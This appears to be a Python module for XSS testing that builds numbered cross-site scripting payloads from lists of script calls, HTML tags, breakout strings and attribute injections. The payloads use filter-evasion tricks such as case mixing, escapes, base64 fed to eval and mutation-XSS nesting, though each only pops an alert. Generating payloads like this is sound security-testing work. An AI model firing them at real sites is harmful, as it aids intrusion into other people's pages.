"""Texts that run as a script wherever a page lets them: our own grammar of ways in, put together from its parts."""

from base64 import b64encode
from collections.abc import Iterator
from itertools import product

# Each part that runs carries a number, so that a run tells which text it was.
CALLS = (
    "alert({n})",
    "alert`{n}`",
    "(alert)({n})",
    "top['al'+'ert']({n})",
    "[{n}].find(alert)",
    "setTimeout('alert({n})')",
    "self['\\x61lert']({n})",
    "\\u0061lert({n})",
    "eval(atob('{encoded}'))",
    "Reflect.apply(alert,0,[{n}])",
    "confirm({n})",
    "prompt({n})",
)
CARRIERS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCriPt >",
    "<script\n>{call}</script\t>",
    '<img src=data:, onerror="{call}">',
    "<img src=data:, onerror={bare}>",
    "<IMG/SRC=data:,/OnErRoR={bare}>",
    '<img\nsrc="data:,"\nonerror\n=\n"{call}">',
    '<svg onload="{call}">',
    "<svg/onload={bare}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={bare} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={bare} attributename=x to=1></svg>",
    '<input autofocus onfocus="{call}">',
    "<details open ontoggle={bare}>",
    "<video><source onerror={bare} src=data:,></video>",
    "<audio src=data:, onerror={bare}></audio>",
    "<style onload={bare}></style>",
    "<body onload={bare}>",
    "<object data=data:, onerror={bare}></object>",
    "<iframe onload={bare}></iframe>",
    '<iframe src="javascript:parent.{call}"></iframe>',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<math><mtext></mtext><mglyph><style><img src=data:, onerror={bare}></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=data:, onerror={bare}>'>",
)
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</svg>",
    "</template>",
    "\\u003c/script\\u003e</script>",
    "甲國&lt;",
    "%22%3E",
    '&quot;">',
)
ATTRIBUTES = (
    '" autofocus onfocus="{call}" x="',
    "' autofocus onfocus='{bare}' x='",
    " autofocus onfocus={bare} x=",
    '" onload="{call}" x="',
    "{{{{constructor.constructor('{bare}')()}}}}",
    "${{{bare}}}",
    "javascript:{call}//",
    "java\tscript:{call}//",
    "data:text/html,<script>{call}</script>",
)


def payloads() -> list[str]:
    """Every text of the grammar, each with its own number."""
    return [made.rstrip() for made in _made()]


def _made() -> Iterator[str]:
    shapes = [out + carrier for out, carrier in product(WAYS_OUT, CARRIERS)] + list(ATTRIBUTES) * 4
    for number, (shape, call) in enumerate(product(shapes, CALLS), 1):
        encoded = b64encode(f"alert({number})".encode()).decode()
        made = call.format(n=number, encoded=encoded)
        yield shape.format(call=made.replace('"', "&quot;"), bare=made.replace(" ", "").replace("'", "&#39;"))
